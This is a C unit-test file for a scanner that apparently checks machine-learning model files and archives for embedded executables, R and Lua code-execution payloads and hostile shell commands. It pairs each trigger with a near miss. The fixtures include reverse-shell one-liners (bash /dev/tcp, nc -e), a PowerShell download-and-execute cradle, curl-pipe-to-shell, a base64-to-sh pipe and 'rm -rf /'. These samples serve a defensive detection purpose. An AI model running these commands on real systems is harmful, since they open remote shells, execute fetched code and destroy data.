/* Detectors of programs, R objects and the smaller formats: each rule has something that trips it, and something close that does not. */
#include "test.h"

#include "io/ustar.h"
#include "rdata_asm.h"
#include "scan/commands.h"
#include "scan/policy.h"
#include "scan/scan.h"

enum { NONE = -1 };

#define BYTES(literal)                 \
    {                                  \
        (literal), sizeof(literal) - 1 \
    }

static const char elf[] =
    "\x7f"
    "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
    "\0\0\0\0\0\0\0\0\x40\0\x38\0\0\0\0\0\0\0\0\0";

/* The level of a rule's finding in a file, or NONE. */
static int level_of(struct redan_ctx *ctx, struct redan_slice bytes, const char *name,
                    const char *rule)
{
    struct redan_scan_options options = {0};
    struct redan_scan_artefact artefact = {0};
    struct redan_source source;
    int level = NONE;

    assert_ok(
        redan_scan_tables_parse(ctx, REDAN_S(""), true, &options.tables)); /* none is needed here */
    redan_source_memory(&source, bytes);
    assert_ok(redan_scan_source(ctx, &options, &source, redan_slice_of(name), &artefact));
    redan_source_done(&source);
    for (const struct redan_finding *f = artefact.findings.first; f; f = f->next) {
        if (strcmp(f->rule->id, rule) == 0 && (int)f->level > level)
            level = (int)f->level;
    }
    return level;
}

static void check(struct redan_ctx *ctx, struct redan_slice bytes, const char *name,
                  const char *rule, int level, size_t row)
{
    int got = level_of(ctx, bytes, name, rule);

    if (got != level)
        fail_msg("row %zu (%s): %s is at level %d, not %d", row, name, rule, got, level);
}

/* A tar of one file beside a model's weights. */
static struct redan_slice tar_of(struct redan_ctx *ctx, const char *name, struct redan_slice bytes)
{
    const struct redan_ustar_file files[] = {{REDAN_S("model_weights.ckpt"), REDAN_S("\1\2\3")},
                                             {redan_slice_of(name), bytes}};
    struct redan_buf out;
    struct redan_slice copy = {0};

    redan_buf_init(&out, ctx, 1 << 20);
    for (size_t i = 0; i < REDAN_COUNT(files); i++)
        assert_ok(redan_ustar_add(ctx, &out, &files[i]));
    redan_ustar_end(&out);
    assert_ok(redan_buf_ok(ctx, &out, "an archive"));
    assert_ok(redan_copy(ctx, redan_buf_view(&out), &copy));
    redan_buf_done(&out);
    return copy;
}

static void test_programs(void **state)
{
    static const struct {
        const char *name;
        struct redan_slice bytes;
        const char *in; /* the name in an archive; NULL: the file itself */
        const char *rule;
        int level;
    } rows[] = {
        {"model.bin", BYTES(elf), NULL, "EXE501", REDAN_LEVEL_FAIL},
        {"libop.so", BYTES(elf), NULL, "EXE501", NONE},
        {"libop.so", BYTES(elf), NULL, "EXE502", REDAN_LEVEL_WARN},
        {"lib.so.2", BYTES(elf), NULL, "EXE502", REDAN_LEVEL_WARN},
        {"m.tar", BYTES(elf), "libop.so", "EXE502", REDAN_LEVEL_WARN},
        {"m.tar", BYTES(elf), "libop.so", "EXE501", NONE},
        {"m.tar", BYTES(elf), "notes", "EXE501", REDAN_LEVEL_FAIL},
        {"m.tar", BYTES(elf), "weights.npy", "EXE501", REDAN_LEVEL_FAIL},
        {"m.wasm", BYTES("\0asm\1\0\0\0"), NULL, "EXE501", NONE},
        {"m.pt", BYTES("\0asm\1\0\0\0"), NULL, "EXE501", REDAN_LEVEL_FAIL},
        {"m.tar", BYTES("\0asm\1\0\0\0"), "op.wasm", "EXE501", NONE},
        {"m.msgpack",
         BYTES("\x81\xa1k\xc4\x0e\x7f"
               "ELF\2\1\1\0\0\0\0\0\0\0"),
         NULL, "EXE501", REDAN_LEVEL_FAIL},
        {"m.msgpack", BYTES("\x81\xa1k\xc4\x0e\1\2\3\4\5\6\7\10\11\12\13\14\15\16"), NULL, "EXE501",
         NONE},
        {"m.bin", BYTES("MZ\x90\0\x90\0, This program cannot be run in DOS mode"), NULL, "EXE501",
         REDAN_LEVEL_FAIL},
        {"m.bin", BYTES("MZ is how these weights begin, by chance"), NULL, "EXE501", NONE},
        {"run.sh", BYTES("#!/bin/sh\npython train.py\n"), NULL, "EXE501", NONE},
        {"m.ckpt", BYTES("#!/bin/sh\npython train.py\n"), NULL, "EXE501", REDAN_LEVEL_FAIL},
        {"m.tar", BYTES("#!/bin/bash\nls\n"), "run.sh", "EXE503", REDAN_LEVEL_WARN},
        {"m.tar", BYTES("#!/usr/bin/env python\nx = 1\n"), "run.py", "EXE503", NONE},
        {"run.sh", BYTES("#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/99 0>&1\n"), NULL, "EXE504",
         REDAN_LEVEL_FAIL},
        {"install.sh", BYTES("#!/bin/sh\ncurl -fsSL https://example.org/i.sh | sh\n"), NULL,
         "EXE504", NONE},
        {"x.ps1", BYTES("$x = 1\nIEX(New-Object Net.WebClient).DownloadString('http://a')\n"), NULL,
         "EXE504", REDAN_LEVEL_FAIL},
        {"x.ps1", BYTES("$x = 1\nWrite-Output $x\n"), NULL, "EXE504", NONE},
        {"m.tar", BYTES("#!/bin/bash\nrm -rf /\n"), "x.sh", "EXE504", REDAN_LEVEL_FAIL},
    };
    struct redan_ctx ctx;

    (void)state;
    redan_ctx_init(&ctx, NULL);
    for (size_t i = 0; i < REDAN_COUNT(rows); i++) {
        struct redan_slice bytes =
            rows[i].in ? tar_of(&ctx, rows[i].in, rows[i].bytes) : rows[i].bytes;
        check(&ctx, bytes, rows[i].name, rows[i].rule, rows[i].level, i);
    }
    redan_ctx_done(&ctx);
}

/* In the middle of what no format knows; almost a program is none. */
static void test_buried(void **state)
{
    struct redan_ctx ctx;
    size_t size = (2 << 20) + 1000;

    (void)state;
    redan_ctx_init(&ctx, NULL);
    char *bytes = redan_take(&ctx, size);
    assert_non_null(bytes);
    for (size_t i = 0; i < size; i++)
        bytes[i] = (char)(0xc1 + i % 7);
    static const size_t places[] = {100, (1 << 20) - 10, (2 << 20) + 500};
    for (size_t i = 0; i < REDAN_COUNT(places); i++) {
        char kept[sizeof(elf)];
        memcpy(kept, bytes + places[i], sizeof(elf));
        memcpy(bytes + places[i], elf, sizeof(elf) - 1);
        check(&ctx, (struct redan_slice){bytes, size}, "x", "EXE505", REDAN_LEVEL_FAIL, i);
        bytes[places[i] + 18] = 0; /* no machine: still a head */
        bytes[places[i] + 52] = 9; /* a head of a wrong size */
        check(&ctx, (struct redan_slice){bytes, size}, "x", "EXE505", NONE, i);
        memcpy(bytes + places[i], kept, sizeof(elf));
    }
    memcpy(bytes + 5000, "MZ", 2);
    memcpy(bytes + 5000 + 60, "\x80\0\0\0", 4);
    memcpy(bytes + 5000 + 128, "PE\0\0\x64\x86", 6);
    check(&ctx, (struct redan_slice){bytes, size}, "x", "EXE505", REDAN_LEVEL_FAIL, 10);
    bytes[5000 + 128 + 4] = 0;
    check(&ctx, (struct redan_slice){bytes, size}, "x", "EXE505", NONE, 11);
    redan_ctx_done(&ctx);
}

enum where { PROMISE, FORCED, CLOSURE, EXPRESSION, STARTUP, ACTIVE, IN_ENVIRONMENT };

static void environment(struct r *r, bool active)
{
    r_num(r, 4);
    r_num(r, 0);
    r_num(r, 242);
    r_num(r, R_LIST | R_TAGGED | (active ? 1u << 27 : 0));
    r_sym(r, "x");
}

static void place(struct r *r, struct redan_ctx *ctx, enum where where, const char *function,
                  const char *argument)
{
    bool env = where == ACTIVE || where == IN_ENVIRONMENT;

    r_start(r, ctx, 'X', where == STARTUP ? "RDX3\n" : "", 3);
    if (where == STARTUP) {
        r_num(r, R_LIST | R_TAGGED);
        r_sym(r, ".First");
    }
    if (env)
        environment(r, where == ACTIVE);
    if (where == PROMISE || where == IN_ENVIRONMENT)
        r_promise(r, false);
    if (where == FORCED)
        r_promise(r, true);
    if (where == CLOSURE || where == STARTUP || where == ACTIVE) {
        r_num(r, R_CLO);
        r_num(r, R_NIL);
    }
    r_call(r, function, argument);
    for (int i = 0; i < (env ? 3 : where == STARTUP ? 1 : 0); i++)
        r_num(r, R_NIL);
}

static void test_r(void **state)
{
    static const struct {
        enum where where;
        const char *function, *argument;
        const char *rule;
        int level;
    } rows[] = {
        {PROMISE, "system", "id", "COD530", REDAN_LEVEL_FAIL},
        {PROMISE, "download.file", "http://x", "COD530", REDAN_LEVEL_FAIL},
        {PROMISE, "mean", "x", "COD530", NONE},
        {PROMISE, "mean", "x", "COD531", REDAN_LEVEL_WARN},
        {FORCED, "system", "id", "COD530", NONE},
        {FORCED, "system", "id", "COD531", NONE},
        {IN_ENVIRONMENT, "system", "id", "COD530", REDAN_LEVEL_FAIL},
        {IN_ENVIRONMENT, "readRDS", "x.rds", "COD530", NONE},
        {IN_ENVIRONMENT, "mean", "x", "COD531", NONE},
        {CLOSURE, "system2", "id", "COD532", REDAN_LEVEL_WARN},
        {CLOSURE, "system.time", "id", "COD532", NONE},
        {CLOSURE, "do.call", "system", "COD532", REDAN_LEVEL_WARN},
        {CLOSURE, "do.call", "rbind", "COD532", NONE},
        {CLOSURE, "parse", "system('id')", "COD532", REDAN_LEVEL_WARN},
        {CLOSURE, "parse", "a + b", "COD532", NONE},
        {CLOSURE, "source", "https://x/y.R", "COD532", REDAN_LEVEL_WARN},
        {EXPRESSION, "system", "id", "COD532", REDAN_LEVEL_WARN},
        {EXPRESSION, "lm", "y ~ x", "COD532", NONE},
        {STARTUP, "library", "x", "COD533", REDAN_LEVEL_WARN},
        {STARTUP, "system", "id", "COD533", REDAN_LEVEL_FAIL},
        {CLOSURE, "library", "x", "COD533", NONE},
        {ACTIVE, "system", "id", "COD533", REDAN_LEVEL_FAIL},
        {ACTIVE, "mean", "x", "COD533", NONE},
    };
    struct redan_ctx ctx;
    struct r r;

    (void)state;
    redan_ctx_init(&ctx, NULL);
    for (size_t i = 0; i < REDAN_COUNT(rows); i++) {
        place(&r, &ctx, rows[i].where, rows[i].function, rows[i].argument);
        check(&ctx, redan_buf_view(&r.out), "x.rds", rows[i].rule, rows[i].level, i);
        redan_buf_done(&r.out);
    }
    for (int mapped = 0; mapped < 2; mapped++) {
        r_start(&r, &ctx, 'X', "", 3);
        r_num(&r, 238);
        r_num(&r, R_LIST);
        r_sym(&r, mapped ? "mmap_real" : "compact_intseq");
        r_num(&r, R_LIST);
        r_sym(&r, "base");
        r_num(&r, R_NIL);
        r_str(&r, "/etc/passwd");
        r_num(&r, R_NIL);
        check(&ctx, redan_buf_view(&r.out), "x.rds", "COD534", mapped ? REDAN_LEVEL_WARN : NONE, 0);
        redan_buf_done(&r.out);
    }
    redan_ctx_done(&ctx);
}

static void test_texts(void **state)
{
    static const struct {
        const char *name;
        struct redan_slice bytes;
        const char *rule;
        int level;
    } rows[] = {
        {"x.t7",
         BYTES("\3\0\0\0\1\0\0\0\1\0\0\0\2\0\0\0\1\0\0\0f\6\0\0\0\x11\0\0\0os.execute('id') "
               "\0\0\0\0"),
         "COD535", REDAN_LEVEL_FAIL},
        {"x.t7",
         BYTES("\3\0\0\0\1\0\0\0\1\0\0\0\2\0\0\0\1\0\0\0f\6\0\0\0\x11\0\0\0return math.pi "
               "*2\0\0\0\0"),
         "COD535", NONE},
        {"x.rknn", BYTES("RKNN\1\0\0\0note=cmd.exe /c whoami"), "COD537", REDAN_LEVEL_WARN},
        {"x.rknn", BYTES("RKNN\1\0\0\0label=execute_mode_fast, system_heat"), "COD537", NONE},
        {"x.cbm", BYTES("CBM1\x20\0\0\0x\0callback_url=https://a.example/b"), "FMT250",
         REDAN_LEVEL_WARN},
        {"x.cbm", BYTES("CBM1\x20\0\0\0x\0homepage=https://a.example/b"), "FMT250", NONE},
        {"x.txt", BYTES("tree\nversion=v4\nTree=0\nnum_leaves=9\nleft_child=1\n"), "FMT251",
         REDAN_LEVEL_WARN},
        {"x.txt", BYTES("tree\nversion=v4\nTree=0\nnum_leaves=2\nleft_child=-1\n"), "FMT251", NONE},
        {"x.png", BYTES("\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82#!/bin/sh\nid\n"), "FMT252",
         REDAN_LEVEL_WARN},
        {"x.png", BYTES("\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82\r\n"), "FMT252", NONE},
        {"x.engine", BYTES("this is python code"), "FMT253", REDAN_LEVEL_WARN},
        {"x.engine", BYTES("this is a place holder"), "FMT253", NONE},
        {"x.pdiparams", BYTES("x; import os; os.system('id')"), "FMT253", REDAN_LEVEL_WARN},
        {"x.md", BYTES("x; import os; os.system('id')"), "FMT253", NONE},
    };
    struct redan_ctx ctx;

    (void)state;
    redan_ctx_init(&ctx, NULL);
    for (size_t i = 0; i < REDAN_COUNT(rows); i++)
        check(&ctx, rows[i].bytes, rows[i].name, rows[i].rule, rows[i].level, i);
    /* what an archive holds is not its own text, whatever was read last */
    check(&ctx, tar_of(&ctx, "notes.txt", REDAN_S("x; import os; os.system('id')")), "x.pt",
          "FMT253", NONE, REDAN_COUNT(rows));
    redan_ctx_done(&ctx);
}

/* A handler may compute and log; one that starts programs is shown, in such an archive only. */
static void test_handler(void **state)
{
    static const struct {
        const char *manifest;
        const char *handler;
        int level;
    } rows[] = {
        {"MAR-INF/MANIFEST.json", "import subprocess as sp\ndef handle(d, c):\n    sp.run(d)\n",
         REDAN_LEVEL_WARN},
        {"MAR-INF/MANIFEST.json", "import os\ndef handle(d, c):\n    return os.popen(d)\n",
         REDAN_LEVEL_WARN},
        {"MAR-INF/MANIFEST.json", "def handle(d, c):\n    return eval(d)\n", REDAN_LEVEL_WARN},
        {"MAR-INF/MANIFEST.json", "import os\ndef handle(d, c):\n    return os.path.join(d)\n",
         NONE},
        {"MAR-INF/MANIFEST.json",
         "def handle(d, c):\n    # os.system('x')\n    return 'os.system(1)'\n", NONE},
        {"OTHER/MANIFEST.json", "import os\ndef handle(d, c):\n    return os.popen(d)\n", NONE},
    };
    struct redan_ctx ctx;

    (void)state;
    redan_ctx_init(&ctx, NULL);
    for (size_t i = 0; i < REDAN_COUNT(rows); i++) {
        const struct redan_ustar_file files[] = {
            {redan_slice_of(rows[i].manifest), REDAN_S("{\"model\": {\"handler\": \"h.py\"}}")},
            {REDAN_S("h.py"), redan_slice_of(rows[i].handler)}};
        struct redan_buf out;

        redan_buf_init(&out, &ctx, 1 << 20);
        for (size_t k = 0; k < REDAN_COUNT(files); k++)
            assert_ok(redan_ustar_add(&ctx, &out, &files[k]));
        redan_ustar_end(&out);
        check(&ctx, redan_buf_view(&out), "m.mar", "COD536", rows[i].level, i);
        redan_buf_done(&out);
    }
    redan_ctx_done(&ctx);
}

static void test_commands(void **state)
{
    static const struct {
        const char *text;
        enum redan_command kind;
    } rows[] = {
        {"curl -s http://a.example/x | sudo bash", REDAN_COMMAND_RUNS},
        {"curl -s http://a.example/x | shuf", REDAN_COMMAND_NONE},
        {"curl -s http://a.example/x > y\n| sh", REDAN_COMMAND_NONE},
        {"echo aWQ= | base64 -d|sh", REDAN_COMMAND_SEIZE},
        {"base64 -d weights.b64 > weights.bin", REDAN_COMMAND_NONE},
        {"nc 10.0.0.1 4444 -e /bin/sh", REDAN_COMMAND_SEIZE},
        {"nc -z localhost 80", REDAN_COMMAND_NONE},
        {"func -e /bin/sh", REDAN_COMMAND_NONE},
        {"POWERSHELL -EncodedCommand AAAA", REDAN_COMMAND_SEIZE},
        {"python3 -c 'import socket,subprocess,os'", REDAN_COMMAND_SEIZE},
        {"x.os.system('id')", REDAN_COMMAND_RUNS},
        {"pos.system('id')", REDAN_COMMAND_RUNS},
        {"ecosystem('id')", REDAN_COMMAND_NONE},
        {"the system (\"id\") is", REDAN_COMMAND_NONE},
        {"rm -rf ./build", REDAN_COMMAND_NONE},
        {"rm -rf /", REDAN_COMMAND_SEIZE},
        {"rm -rf /dev/shm/x", REDAN_COMMAND_RUNS},
        {"rm -fr ~/*", REDAN_COMMAND_SEIZE},
        {"rm -rf ~/.cache/x", REDAN_COMMAND_RUNS},
        {"", REDAN_COMMAND_NONE},
    };

    (void)state;
    for (size_t i = 0; i < REDAN_COUNT(rows); i++) {
        struct redan_slice seen = {0};
        if (redan_command_in(redan_slice_of(rows[i].text), &seen) != rows[i].kind)
            fail_msg("\"%s\" is of another kind than %d", rows[i].text, rows[i].kind);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_programs), cmocka_unit_test(test_buried),
        cmocka_unit_test(test_r),        cmocka_unit_test(test_texts),
        cmocka_unit_test(test_handler),  cmocka_unit_test(test_commands),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
